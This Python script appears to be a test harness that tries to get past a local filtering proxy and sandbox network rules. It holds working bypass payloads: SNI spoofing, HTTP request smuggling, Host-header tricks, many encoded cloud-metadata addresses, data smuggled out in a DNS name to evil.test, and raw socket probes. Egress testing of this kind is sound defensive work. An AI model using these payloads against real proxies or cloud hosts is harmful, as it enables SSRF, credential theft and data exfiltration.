"""Tries to reach what it may not, with sockets of its own: it ignores the proxy's
variables. One line for each attempt: its name, a tab, what came back."""
import socket, ssl, struct, sys

PROXY = ("127.0.0.1", 3128)
CTX = ssl.create_default_context()
CTX.check_hostname, CTX.verify_mode = False, ssl.CERT_NONE


def answer(s):
    data = b""
    try:
        while len(data) < 4096:
            b = s.recv(4096)
            if not b:
                break
            data += b
    except OSError as e:
        if not data:
            return "ERR %s" % e
    return data.decode("latin-1")


def proxied(text):
    s = socket.create_connection(PROXY, 6)
    s.settimeout(6)
    s.sendall(text.encode("latin-1"))
    return s


def raw(text):
    return answer(proxied(text))


def connect(target):
    s = proxied("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target))
    head = b""
    while b"\r\n\r\n" not in head:
        b = s.recv(1)
        if not b:
            break
        head += b
    return s, head.decode("latin-1")


def through(target, text):
    s, head = connect(target)
    if " 200 " not in head:
        return head
    s.sendall(text.encode("latin-1"))
    return answer(s)


def tls(target, sni, host, alpn=None, body=None):
    s, head = connect(target)
    if " 200 " not in head:
        return head
    ctx = CTX
    if alpn:
        ctx = ssl.create_default_context()
        ctx.check_hostname, ctx.verify_mode = False, ssl.CERT_NONE
        ctx.set_alpn_protocols([alpn])
    t = ctx.wrap_socket(s, server_hostname=sni)
    t.sendall(body or ("GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % host).encode())
    return answer(t)


def hello(sni, extension=None):
    out = ssl.MemoryBIO()
    try:
        CTX.wrap_bio(ssl.MemoryBIO(), out, server_hostname=sni).do_handshake()
    except ssl.SSLWantReadError:
        pass
    h = bytearray(out.read())
    if extension is None:
        return bytes(h)
    more = struct.pack("!HH", extension, 8) + b"\0" * 8
    at = 5 + 4 + 2 + 32
    at += 1 + h[at]
    at += 2 + struct.unpack_from("!H", h, at)[0]
    at += 1 + h[at]
    struct.pack_into("!H", h, at, struct.unpack_from("!H", h, at)[0] + len(more))
    struct.pack_into("!H", h, 3, struct.unpack_from("!H", h, 3)[0] + len(more))
    h[6:9] = (int.from_bytes(h[6:9], "big") + len(more)).to_bytes(3, "big")
    return bytes(h) + more


def greeting(target, data):
    s, head = connect(target)
    if " 200 " not in head:
        return head
    s.sendall(data)
    return answer(s)


def direct(family, kind, proto, address, data=b"canary?", flags=0):
    s = socket.socket(family, kind, proto)
    s.settimeout(0.5)
    if kind == socket.SOCK_DGRAM and family == socket.AF_INET:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    if flags:
        s.sendto(data, flags, address)
    else:
        s.connect(address)
        s.send(data)
    return answer(s)


def redirected(url):
    """Follows redirects as clients do: each is a request of its own."""
    import urllib.request
    o = urllib.request.build_opener(urllib.request.ProxyHandler({"http": "http://127.0.0.1:3128"}))
    return o.open(url, timeout=6).read().decode("latin-1")


def get(url, host=None, more=""):
    return raw("GET %s HTTP/1.1\r\nHost: %s\r\n%sConnection: close\r\n\r\n" % (url, host or url.split("/")[2], more))


GOOD = {
    "good http": lambda: get("http://allowed.test/"),
    "good https": lambda: tls("allowed.test:443", "allowed.test", "allowed.test"),
}
NAMES = {
    "SNI of another": lambda: tls("allowed.test:443", "evil.test", "allowed.test"),
    "no SNI": lambda: tls("allowed.test:443", None, "allowed.test"),
    "SNI below": lambda: tls("allowed.test:443", "allowed.test.evil.test", "evil.test"),
    "address with SNI of an allowed name": lambda: tls("93.184.216.35:443", "allowed.test", "allowed.test"),
    "address of the allowed name": lambda: tls("93.184.216.34:443", "allowed.test", "allowed.test"),
    "another name": lambda: tls("evil.test:443", "evil.test", "evil.test"),
    "another name, SNI allowed": lambda: tls("evil.test:443", "allowed.test", "allowed.test"),
    "encrypted greeting": lambda: greeting("allowed.test:443", hello("allowed.test", 0xfe0d)),
    "two greetings": lambda: greeting("allowed.test:443", hello("allowed.test")[:40] + hello("evil.test")),
    "clear HTTP on 443, Host of another": lambda: through("allowed.test:443", "GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n"),
    "SSH on 443": lambda: through("allowed.test:443", "SSH-2.0-x\r\n"),
    "bytes on 443": lambda: through("allowed.test:443", "\x00\x01\x02\x03"),
    "CONNECT in a tunnel": lambda: through("allowed.test:80", "CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n"),
    "CONNECT after a request": lambda: raw("GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\nCONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\nConnection: close\r\n\r\n"),
    "HTTP/2 in the clear": lambda: through("allowed.test:80", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0"),
    "upgrade to HTTP/2": lambda: through("allowed.test:80", "GET / HTTP/1.1\r\nHost: evil.test\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n"),
    "websocket of another": lambda: through("allowed.test:80", "GET / HTTP/1.1\r\nHost: evil.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n"),
    "absolute form in a tunnel": lambda: through("allowed.test:80", "GET http://evil.test/ HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n"),
    "absolute form, Host allowed": lambda: get("http://evil.test/", "allowed.test"),
    "two Hosts": lambda: through("allowed.test:80", "GET / HTTP/1.1\r\nHost: allowed.test\r\nHost: evil.test\r\nConnection: close\r\n\r\n"),
    "folded Host": lambda: through("allowed.test:80", "GET / HTTP/1.1\r\nHost: allowed.test\r\n evil.test\r\nConnection: close\r\n\r\n"),
    "smuggled by lengths": lambda: raw("POST http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 60\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n"),
    "user before the host": lambda: get("http://allowed.test@evil.test/", "allowed.test"),
    "user with a port": lambda: get("http://allowed.test:80@evil.test/", "allowed.test"),
    "backslash": lambda: get("http://allowed.test\\@evil.test/", "allowed.test"),
    "NUL": lambda: get("http://evil.test\0.allowed.test/", "allowed.test"),
    "name below": lambda: get("http://allowed.test.evil.test/"),
    "name above": lambda: get("http://x.allowed.test/"),
    "another port": lambda: get("http://allowed.test:8080/"),
    "name that leads inside": lambda: get("http://inner.test/"),
    "name that leads home": lambda: get("http://home.test/"),
    "data in a name": lambda: get("http://c2VjcmV0LWNhbmFyeQ.evil.test/"),
}
META = ["169.254.169.254", "0xa9fea9fe", "2852039166", "0251.0376.0251.0376", "169.254.43518", "169.16689662", "0xa9.0xfe.0xa9.0xfe", "169.254.169.254.",
        "[::ffff:169.254.169.254]", "[::ffff:a9fe:a9fe]", "[::a9fe:a9fe]", "[64:ff9b::a9fe:a9fe]", "[2002:a9fe:a9fe::]", "[fd00:ec2::254]", "[fd00:0ec2:0::0254]",
        "[fe80::a9fe:a9fe]", "169.254.170.2", "100.100.100.200", "168.63.129.16", "192.0.0.192", "metadata.google.internal", "metadata", "instance-data", "meta.test",
        "META.TEST.", "169.254.169.254.meta.test", "xn--169-254.test", "%31%36%39.254.169.254", "①⑥⑨.254.169.254".encode().decode("latin-1")]
METADATA = {}
for m in META:
    METADATA["metadata " + m] = lambda m=m: get("http://%s/latest/meta-data/" % m, more="X-aws-ec2-metadata-token: x\r\nMetadata-Flavor: Google\r\nMetadata: true\r\n")
    METADATA["metadata by CONNECT " + m] = lambda m=m: through(m + ":80", "GET /latest/api/token HTTP/1.1\r\nHost: 169.254.169.254\r\nConnection: close\r\n\r\n")
METADATA["metadata by redirect"] = lambda: redirected("http://allowed.test/redirect?http://169.254.169.254/latest/")
METADATA["metadata, allowed as Host"] = lambda: get("http://169.254.169.254/", "allowed.test")
METADATA["metadata as Host"] = lambda: through("allowed.test:80", "GET / HTTP/1.1\r\nHost: 169.254.169.254\r\nConnection: close\r\n\r\n")
for a in ("169.254.169.254", "169.254.170.2", "93.184.216.35", "10.0.0.7", "192.168.7.1"):
    METADATA["direct tcp " + a] = lambda a=a: direct(socket.AF_INET, socket.SOCK_STREAM, 0, (a, 80))
for a in ("fd00:ec2::254", "2606:4700::1111", "fe80::1"):
    METADATA["direct tcp " + a] = lambda a=a: direct(socket.AF_INET6, socket.SOCK_STREAM, 0, (a, 80))
HOME = {}
for a in ("127.0.0.1", "127.0.0.2", "127.255.255.254", "localhost", "[::1]", "0.0.0.0", "0", "[::]", "[::ffff:127.0.0.1]", "127.1", "10.0.0.7", "192.168.7.1", "home.test", "inner.test"):
    for p in sys.argv[3:]:
        HOME["home %s:%s" % (a, p)] = lambda a=a, p=p: get("http://%s:%s/" % (a, p))
        HOME["home by CONNECT %s:%s" % (a, p)] = lambda a=a, p=p: through("%s:%s" % (a, p), "GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
OTHERS = {}
for a in ("93.184.216.35", "169.254.169.254", "10.0.0.7", "192.168.7.1", "255.255.255.255", "224.0.0.251", "10.255.255.255"):
    for p in (53, 123, 443):
        OTHERS["udp %s:%d" % (a, p)] = lambda a=a, p=p: direct(socket.AF_INET, socket.SOCK_DGRAM, 0, (a, p), b"\xc3\0\0\0\1" + b"\0" * 1195)
    OTHERS["fast open " + a] = lambda a=a: direct(socket.AF_INET, socket.SOCK_STREAM, 0, (a, 443), b"x", 0x20000000)
    OTHERS["ping " + a] = lambda a=a: direct(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP, (a, 0), b"\x08\0\xf7\xff\0\0\0\0canary")
    for name, kind, proto in (("icmp", 3, 1), ("raw", 3, 255), ("gre", 3, 47), ("sctp", 1, 132), ("udplite", 2, 136), ("dccp", 6, 33), ("mptcp", 1, 262)):
        OTHERS["%s %s" % (name, a)] = lambda a=a, k=kind, p=proto: direct(socket.AF_INET, k, p, (a, 443 if k != 3 else 0), b"\x08\0\xf7\xff\0\0\0\0")
for a in ("fd00:ec2::254", "ff02::1", "2606:4700::1111"):
    OTHERS["udp " + a] = lambda a=a: direct(socket.AF_INET6, socket.SOCK_DGRAM, 0, (a, 443))
    OTHERS["icmp6 " + a] = lambda a=a: direct(socket.AF_INET6, socket.SOCK_RAW, 58, (a, 0), b"\x87\0\0\0")
for name, family, kind in (("packet", 17, 3), ("vsock", 40, 1), ("bluetooth", 31, 5), ("can", 29, 3), ("tipc", 30, 2), ("xdp", 44, 3), ("alg", 38, 5), ("rds", 21, 5), ("llc", 26, 2), ("kcm", 41, 5)):
    OTHERS["family " + name] = lambda f=family, k=kind: socket.socket(f, k, 0) and "OPENED"
for path in sys.argv[2].split(","):
    OTHERS["unix " + path] = lambda p=path: direct(socket.AF_UNIX, socket.SOCK_STREAM, 0, p.replace("@", "\0"))

for group in sys.argv[1].split(","):
    for name, attempt in {"good": GOOD, "names": NAMES, "metadata": METADATA, "home": HOME, "others": OTHERS}[group].items():
        try:
            got = attempt()
        except Exception as e:
            got = "ERR %r" % e
        print("%s\t%s" % (name, got.replace("\r", "").replace("\n", " ")[:200]), flush=True)
print("END", flush=True)
